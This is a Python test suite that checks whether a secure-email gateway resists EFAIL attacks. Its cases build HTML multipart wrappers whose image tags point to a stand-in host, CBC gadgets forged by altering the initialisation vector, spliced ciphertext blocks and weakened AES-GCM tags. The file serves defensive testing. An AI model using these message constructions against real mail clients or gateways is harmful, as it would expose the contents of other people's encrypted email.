"""EFAIL: mail that wants a client, or the gateway, to give away what somebody else's ciphertext says.

Two ways: to have the decrypted octets stand between an attacker's (direct exfiltration), and to turn a CBC
ciphertext, which has no integrity, into one that says what the attacker wants in front of what it said.
REQ-22 REQ-48 REQ-80 REQ-87
"""
import base64
import os
import re

import pytest

import forge
import peers
from setting import A, B, OUTSIDE
from spoof import (EVIL, LURE, MESSAGE, OPAQUE, OPENED, SECRET, TEXT, UNCHANGED, VERIFIED, VICTIM, Attack,
                   Attacks, multipart, spoof_fixture, wire)

ATTACKS = Attacks()
EVIL_FROM, VICTIM_FROM, STRANGER = f"joe@{EVIL}", f"joe@{VICTIM}", f"x@{OUTSIDE}"
HEADER = b"X-a: aaaaaaaaa\n\n"      # a header of 16 octets
TAG = b"<img src='//e/? "

setting, sent = spoof_fixture(), ATTACKS.fixture()


def encrypted_only(s, to=B):
    """The victim's mail without a signature; its first 16 octets are known to everybody."""
    return wire(s.openssl(s.victim).encrypt(TEXT, s.agency[to], "aes256-cbc"))


def turned(s, to=B):
    """The victim's mail, made to begin with an attacker's tag."""
    return forge.Captured(encrypted_only(s, to)).gadget(TEXT[:16], HEADER, TAG)


# Direct exfiltration -------------------------------------------------------------------------------


def between(s, subtype=b"mixed"):
    return multipart(subtype, LURE, s.genuine(), b"Content-Type: text/html\r\n\r\n\">\r\n")


@ATTACKS.add
def between_html_parts(s):
    """Only a whole message is opened, never a part among a stranger's."""
    return Attack(between(s), STRANGER, "", "not-secure-email", UNCHANGED)


@ATTACKS.add
def between_html_parts_of_a_members_mail(s):
    return Attack(between(s), VICTIM_FROM, "002", "member-unsigned", MESSAGE)


@ATTACKS.add
def between_html_parts_that_a_member_signed(s):
    return Attack(forge.detached(between(s), [s.evil]), EVIL_FROM, "008", "member-not-encrypted",
                  MESSAGE)


@ATTACKS.add
def between_html_parts_in_a_good_message(s):
    """Signed and sealed by a member: opened, but not what stands within its parts."""
    content = between(s)
    return Attack(forge.sealed(forge.detached(content, [s.evil]), s.agency[B]), EVIL_FROM, "",
                  "verified", VERIFIED, domain=EVIL, content=content)


@ATTACKS.add
def in_an_alternative(s):
    return Attack(between(s, b"alternative"), STRANGER, "", "not-secure-email", UNCHANGED)


@ATTACKS.add
def by_content_id(s):
    """A page that has the ciphertext as its image, by Content-ID and by Content-Location."""
    page = b"Content-Type: text/html\r\n\r\n<img src='cid:a@b'><iframe src='http://e/a'></iframe>\r\n"
    part = b"Content-ID: <a@b>\r\nContent-Location: http://e/a\r\n" + s.genuine()
    return Attack(multipart(b"related", page, part), STRANGER, "", "not-secure-email", UNCHANGED)


@ATTACKS.add
def within_a_message_part(s):
    """As a forwarded message: message/rfc822, whose content is the ciphertext."""
    return Attack(b"Content-Type: message/rfc822\r\n\r\nFrom: joe@x.test\r\n" + s.genuine(), STRANGER,
                  "", "not-secure-email", UNCHANGED)


@ATTACKS.add
def within_a_message_part_within_a_good_message(s):
    content = b"Content-Type: message/rfc822\r\n\r\nFrom: joe@x.test\r\n" + s.genuine()
    return Attack(forge.sealed(forge.detached(content, [s.evil]), s.agency[B]), EVIL_FROM, "",
                  "verified", VERIFIED, domain=EVIL, content=content)


@ATTACKS.add
def as_a_file(s):
    """An attachment smime.p7m behind a text: the message itself is not S/MIME."""
    file = (b"Content-Type: application/octet-stream; name=smime.p7m\r\nContent-Transfer-Encoding: base64"
            b"\r\n\r\n" + s.genuine().partition(b"\r\n\r\n")[2])
    return Attack(multipart(b"mixed", LURE, file), STRANGER, "", "not-secure-email", UNCHANGED)


# The ciphertext itself -----------------------------------------------------------------------------


@ATTACKS.add
def gadget(s):
    """The attacker's tag in front of the victim's text: opened, and rendered by nothing."""
    return Attack(turned(s), STRANGER, "002", "encrypted-unsigned", OPAQUE)


@ATTACKS.add
def gadget_as_a_member(s):
    return Attack(turned(s), VICTIM_FROM, "002", "member-unsigned", OPAQUE)


def turned_for_two(s):
    """One envelope for agencies A and B, of two tenants."""
    captured = forge.Captured(forge.sealed(TEXT, s.agency[A], s.agency[B]))
    return captured.gadget(TEXT[:16], HEADER, TAG)


@ATTACKS.add
def gadget_for_two_agencies_at_one(s):
    """Each opens it with its own key, and neither shows it."""
    return Attack(turned_for_two(s), STRANGER, "002", "encrypted-unsigned", OPAQUE, to=A)


@ATTACKS.add
def gadget_for_two_agencies_at_the_other(s):
    return Attack(turned_for_two(s), STRANGER, "002", "encrypted-unsigned", OPAQUE)


@ATTACKS.add
def gadget_out_of_a_signed_mail(s):
    """The known first block of signed mail is "MIME-Version: 1." or "Content-Type: mu"."""
    signed = forge.detached(TEXT, [s.victim])
    captured = forge.Captured(forge.sealed(signed, s.agency[B]))
    return Attack(captured.gadget(signed[:16], HEADER, TAG), VICTIM_FROM, "002", "member-unsigned",
                  OPAQUE)


@ATTACKS.add
def gadget_without_the_first_blocks(s):
    """The signature's header cut away, so that only its content is left: no signature, no trust."""
    content = b"Content-Type: text/plain\r\n\r\n" + b"x" * 400 + b"\r\n" + SECRET + b"\r\n"
    signed = forge.detached(content, [s.victim])
    captured = forge.Captured(forge.sealed(signed, s.agency[B]))
    cut = captured.blocks[20:]
    iv = forge.xor(captured.iv, signed[:16], HEADER)
    return Attack(captured.cbc(iv, captured.blocks[0] + b"".join(cut)), VICTIM_FROM, "002",
                  "member-unsigned", OPAQUE)


@ATTACKS.add
def bits_turned_in_a_signed_mail(s):
    """One bit of the ciphertext: the block is garbage and the next one has the bit; the signature says so."""
    content = b"Content-Type: text/html\r\n\r\n" + b"x" * 400 + b"\r\n" + SECRET + b"\r\n"
    captured = forge.Captured(forge.sealed(forge.detached(content, [s.victim]), s.agency[B]))
    octets = bytearray(captured.ciphertext)
    octets[16 * 24] ^= 1        # amid the x
    return Attack(captured.cbc(captured.iv, bytes(octets)), VICTIM_FROM, "003", "altered-inside",
                  OPAQUE)


@ATTACKS.add
def blocks_spliced_into_a_signed_mail(s):
    """Blocks of the same ciphertext a second time, amid the content."""
    content = b"Content-Type: text/html\r\n\r\n" + b"x" * 400 + b"\r\n" + SECRET + b"\r\n"
    captured = forge.Captured(forge.sealed(forge.detached(content, [s.victim]), s.agency[B]))
    blocks = captured.blocks
    return Attack(captured.cbc(captured.iv, b"".join(blocks[:24] + blocks[22:])), VICTIM_FROM, "003",
                  "altered-inside", OPAQUE)


@ATTACKS.add
def first_block_turned_in_a_signed_mail(s):
    """By the initialisation vector: multipart/signed becomes multipart/mixed, and no signature is left."""
    signed = wire(s.openssl(s.victim).sign(TEXT)).replace(b"MIME-Version: 1.0\r\n", b"")
    assert signed.startswith(b"Content-Type: mu")
    captured = forge.Captured(forge.sealed(signed, s.agency[B]))
    iv = forge.xor(captured.iv, b"Content-Type: mu", b"Content-Tope: mu")
    return Attack(captured.cbc(iv, captured.ciphertext), VICTIM_FROM, "002", "member-unsigned", OPAQUE)


def by_joe(s, content=b"Content-Type: text/html\r\n\r\n<img src='//e/?\r\n"):
    """What an attacker, a person elsewhere, has signed; its boundary."""
    joe = s.authority.certificate_for([STRANGER], s.folder, common_name="Joe")
    signed = forge.detached(content, [joe])
    return signed, re.search(rb'boundary="([^"]*)"', signed)[1]


def forwarded(s, signed):
    """The victim forwards what the attacker has signed: the attacker knows these octets and finds them in the
    ciphertext, from block number at on. What the victim wrote is in the blocks before."""
    lead = TEXT + b"--f\r\nContent-Type: message/rfc822\r\n\r\nX-Fill: "
    fill = b"x" * (-(len(b"Content-Type: multipart/mixed; boundary=f\r\n\r\n--f\r\n" + lead) + 2) % 16)
    whole = (b"Content-Type: multipart/mixed; boundary=f\r\n\r\n--f\r\n" + lead + fill + b"\r\n" + signed
             + b"--f--\r\n")
    assert whole.index(signed) % 16 == 0
    return forge.Captured(forge.sealed(whole, s.agency[B])), whole.index(signed) // 16


@ATTACKS.add
def forwarded_signature_in_front(s):
    """Cut out, to stand in front of all that the victim wrote. The signature is good, and covers neither the
    header above it nor what comes behind it."""
    captured, at = forwarded(s, by_joe(s)[0])
    return Attack(captured.cbc(captured.blocks[at - 1], b"".join(captured.blocks[at:] + captured.blocks)),
                  STRANGER, "002", "encrypted-unsigned", OPAQUE)


@ATTACKS.add
def forwarded_signature_that_is_a_page(s):
    """Joe has called the part with his signature a page. Base64 ends at its padding; behind it he begins a tag, the
    victim's text is put into it, and his own end of the tag comes behind that."""
    signed, boundary = by_joe(s, b"Content-Type: text/plain\r\n\r\nHello\r\n")
    front, mark, _ = signed.rpartition(b"--" + boundary + b"--")
    front = front.replace(b"application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64",
                          b"text/html").rstrip(b"=\r\n") + b"=\r\n" + TAG
    front += b"x" * (-len(front) % 16)
    captured, at = forwarded(s, front + b"x" * 16 + b"'>\r\n" + mark + b"\r\n")
    behind = at + len(front) // 16
    blocks = captured.blocks[at:behind] + captured.blocks[1:at] + captured.blocks[behind:]
    return Attack(captured.cbc(captured.blocks[at - 1], b"".join(blocks)), STRANGER, "002",
                  "encrypted-unsigned", OPAQUE)


def joes(name, change, *expected):
    """Joe's own mail, sealed by him; in some ways it can be read otherwise than by its signature."""
    def make(s):
        signed, boundary = by_joe(s)
        return Attack(forge.sealed(change(signed, boundary), s.agency[B]), STRANGER, *expected, absent=())
    make.__name__ = f"signature_{name}"
    ATTACKS.add(make)


def intact(name, change):
    joes(name, change, "", "opened", OPENED)


def doubtful(name, change):
    joes(name, change, "002", "encrypted-unsigned", OPAQUE)


def doubtful_below(name, more):
    doubtful(name, lambda signed, boundary: signed.replace(b"\r\n\r\n", more + b"\r\n\r\n", 1))


PART = b"Content-Type: application/pkcs7-signature; name=smime.p7s\r\n"

intact("alone", lambda signed, boundary: signed)
intact("below_the_usual_words", lambda signed, boundary: signed.replace(
    b"\r\n\r\n", b"\r\n\r\nThis is a cryptographically signed message in MIME format.\r\n\r\n", 1))
intact("by_its_file_name", lambda signed, boundary: signed.replace(
    PART, b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=smime.p7s\r\n")
    + b"\r\n \r\n")
doubtful_below("below_a_second_type", b"\r\nContent-Type: text/html")
doubtful_below("below_an_encoding", b"\r\nContent-Transfer-Encoding: quoted-printable")
doubtful_below("below_two_encodings", b"\r\nContent-Transfer-Encoding: 7bit\r\n"
               b"Content-Transfer-Encoding: base64")
doubtful_below("with_a_second_boundary", b";\r\n boundary=f")
doubtful_below("with_a_second_boundary_far_behind", b"".join(b";\r\n p%d=x" % i for i in range(29))
               + b";\r\n boundary=f")
doubtful_below("with_a_boundary_in_pieces", b";\r\n boundary*0=f")
doubtful_below("with_a_comment", b" (;\r\n boundary=f)")
# RFC 2557: what a picture's name in the signed page is to be looked up under.
doubtful_below("with_a_location", b"\r\nContent-Location: http://a.test/x/")
doubtful_below("with_a_base", b"\r\nContent-Base: http://a.test/x/")
doubtful("with_a_boundary_that_ends_in_a_blank",
         lambda signed, boundary: signed.replace(boundary, boundary + b" "))
doubtful("of_another_type", lambda signed, boundary: signed.replace(PART, b"Content-Type: text/html\r\n"))
doubtful("with_text_behind_it", lambda signed, boundary: signed.replace(
    b"\r\n--" + boundary + b"--", b"\r\n<b>\r\n--" + boundary + b"--"))
doubtful("in_front_of_text", lambda signed, boundary: signed + b"<b>\r\n")
doubtful("behind_a_page", lambda signed, boundary: signed.replace(b"\r\n\r\n", b"\r\n\r\n<b>\r\n", 1))


@ATTACKS.add
def signature_that_is_opaque(s):
    """What it covers is within it."""
    joe = s.authority.certificate_for([STRANGER], s.folder, common_name="Joe")
    return Attack(forge.sealed(forge.opaque(TEXT, [joe]), s.agency[B]), STRANGER, "", "opened", OPENED, absent=())


# The ciphertext within other layers ----------------------------------------------------------------


@ATTACKS.add
def gadget_in_a_signature_in_an_envelope(s):
    """A member signs the turned ciphertext and seals it: its word is about octets it cannot read."""
    return Attack(forge.sealed(forge.detached(turned(s), [s.evil]), s.agency[B]), EVIL_FROM, "002",
                  "member-unsigned", OPAQUE)


@ATTACKS.add
def gadget_in_a_strangers_layers(s):
    """The same with a certificate that anybody makes for himself, named as a domain's authority."""
    return Attack(forge.sealed(forge.opaque(turned(s), [s.nobody]), s.agency[B]), STRANGER, "002",
                  "encrypted-unsigned", OPAQUE)


@ATTACKS.add
def gadget_in_an_authenticated_envelope(s):
    """AES-GCM around it: the integrity is the outer envelope's, not that of what it holds."""
    return Attack(forge.sealed_gcm(turned(s), s.agency[B]), STRANGER, "002", "encrypted-unsigned",
                  OPAQUE)


@ATTACKS.add
def gadget_in_an_authenticated_envelope_as_a_member(s):
    return Attack(forge.sealed_gcm(turned(s), s.agency[B]), VICTIM_FROM, "002", "member-unsigned",
                  OPAQUE)


@ATTACKS.add
def altered_in_an_authenticated_envelope(s):
    """AES-GCM around AES-CBC around an altered signature."""
    content = b"Content-Type: text/html\r\n\r\n" + b"x" * 400 + b"\r\n" + SECRET + b"\r\n"
    captured = forge.Captured(forge.sealed(forge.detached(content, [s.victim]), s.agency[B]))
    octets = bytearray(captured.ciphertext)
    octets[16 * 24] ^= 1
    inner = captured.cbc(captured.iv, bytes(octets))
    return Attack(forge.sealed_gcm(inner, s.agency[B]), VICTIM_FROM, "003", "altered-inside", OPAQUE)


@ATTACKS.add
def authenticated_within_authenticated(s):
    """What is right: both have integrity, nobody's word."""
    return Attack(forge.sealed_gcm(forge.sealed_gcm(TEXT, s.agency[B]), s.agency[B]), STRANGER, "",
                  "opened", OPENED, content=TEXT, absent=())


@ATTACKS.add
def wrapped_by_another_member(s):
    """Surreptitious forwarding: the whole ciphertext under another member's From. Intact, and not his."""
    return Attack(s.genuine(), EVIL_FROM, "002", "signer-mismatch", MESSAGE, absent=())


@ATTACKS.add
def signed_and_sealed_again_by_another_member(s):
    """In layers of his own: what is innermost is the victim's word, not his."""
    entity = forge.sealed(forge.detached(s.genuine(), [s.evil]), s.agency[B])
    return Attack(entity, EVIL_FROM, "002", "signer-mismatch", MESSAGE, absent=())


@ATTACKS.add
def for_another_tenant(s):
    """Agency A's ciphertext, sent to agency B of the same gateway: B's keys are the only ones tried."""
    return Attack(s.genuine(to=A), STRANGER, "", "not-secure-email", UNCHANGED)


@ATTACKS.add
def for_another_tenant_as_a_member(s):
    return Attack(s.genuine(to=A), VICTIM_FROM, "002", "envelope-for-others", MESSAGE)


@ATTACKS.add
def for_another_tenant_within_an_envelope(s):
    """Even where a member seals it for B once more."""
    content = s.genuine(to=A)
    entity = forge.sealed(forge.detached(content, [s.evil]), s.agency[B])
    return Attack(entity, EVIL_FROM, "", "verified", VERIFIED, domain=EVIL)


@ATTACKS.add
def for_another_tenant_under_our_name(s):
    """B's certificate named as the recipient of a key that was encrypted to A's."""
    captured = forge.Captured(forge.sealed(TEXT, s.agency[A]))
    encrypted = forge.elements(forge.elements(captured.recipients[0])[0][1])[3][1]
    captured.recipients = [forge.transport(s.agency[B], encrypted=encrypted)]
    return Attack(captured.cbc(captured.iv, captured.ciphertext), STRANGER, "003", "not-opened", MESSAGE)


# Authenticated encryption, weakened ----------------------------------------------------------------


def gcm(s):
    return forge.Captured(forge.sealed_gcm(forge.detached(TEXT, [s.victim]), s.agency[B]))


def regcm(captured, ciphertext=None, tag=None, **more):
    return forge.entity(forge.auth_enveloped_data(
        captured.recipients, captured.iv, captured.ciphertext if ciphertext is None else ciphertext,
        captured.tag if tag is None else tag, **more), "authEnveloped-data")


@ATTACKS.add
def gcm_as_it_is(s):
    """So that the others fail for what they change."""
    return Attack(regcm(gcm(s)), VICTIM_FROM, "", "verified", VERIFIED, domain=VICTIM, content=TEXT,
                  absent=())


@ATTACKS.add
def gcm_opened_as_cbc(s):
    """The same key, another mode: garbage, and nothing tells how it failed."""
    captured = gcm(s)
    return Attack(captured.cbc(os.urandom(16), os.urandom(32)), VICTIM_FROM, "003", "not-opened", MESSAGE)


@ATTACKS.add
def gcm_without_its_tag(s):
    """AES-GCM in EnvelopedData, where no tag is."""
    captured = gcm(s)
    cms = forge.enveloped_data(captured.recipients, captured.iv, captured.ciphertext, forge.AES256_GCM)
    return Attack(forge.entity(cms), VICTIM_FROM, "002", "unsupported", MESSAGE)


@ATTACKS.add
def cbc_in_authenticated_data(s):
    """AuthEnvelopedData that names AES-CBC: what has no integrity does not get it by its wrapping."""
    captured = gcm(s)
    return Attack(regcm(captured, cipher=forge.AES256_CBC), VICTIM_FROM, "002", "unsupported", MESSAGE)


def weakened(name, change, **more):
    def make(s):
        captured = gcm(s)
        return Attack(regcm(captured, **{**change(captured), **more}), VICTIM_FROM, "003", "not-opened",
                      MESSAGE)
    make.__name__ = name
    ATTACKS.add(make)


weakened("gcm_with_an_empty_tag", lambda c: {"tag": b""})
weakened("gcm_with_a_tag_of_one_octet", lambda c: {"tag": c.tag[:1]})
weakened("gcm_with_a_short_tag", lambda c: {"tag": c.tag[:8]}, tag_size=8)
weakened("gcm_with_a_tag_cut_off", lambda c: {"tag": c.tag[:12]})
weakened("gcm_with_another_tag", lambda c: {"tag": c.tag[:15] + bytes([c.tag[15] ^ 1])})
weakened("gcm_with_another_text", lambda c: {"ciphertext": bytes([c.ciphertext[0] ^ 1])
                                             + c.ciphertext[1:]})
weakened("gcm_with_its_end_cut_off", lambda c: {"ciphertext": c.ciphertext[:-1]})


@ATTACKS.add
def gcm_with_further_attributes(s):
    """Authenticated attributes that were not: not what was sent."""
    attrs = forge.explicit(1, forge.seq(forge.CONTENT_TYPE, forge.set_of(forge.DATA)))
    return Attack(regcm(gcm(s), attrs=attrs), VICTIM_FROM, "002", "unsupported", MESSAGE)


@pytest.mark.parametrize("name", ATTACKS.names)
def test_nothing_is_given_away(sent, name):
    """Nothing decrypted stands where a client renders it, unless its integrity is proved; none is verified
    but what its signer signed."""
    sent.check(name)


def test_what_is_attached_is_the_decrypted_message(sent):
    """Invariant 4: whoever must read it can, by a step of his own: it is there, in octets."""
    import email  # pylint: disable=import-outside-toplevel
    attached = email.message_from_bytes(sent.arrived("gadget")).get_payload(1).get_payload(decode=True)
    assert TAG in attached and SECRET in attached
    sealed = email.message_from_bytes(sent.arrived("gcm-with-another-tag")).get_payload(1).get_payload(0)
    assert sealed.get_content_type() == "application/pkcs7-mime"
    assert peers.split_entity(sealed.as_bytes())[0].get_content_type() == "application/pkcs7-mime"
    assert base64.b64decode(sealed.get_payload())
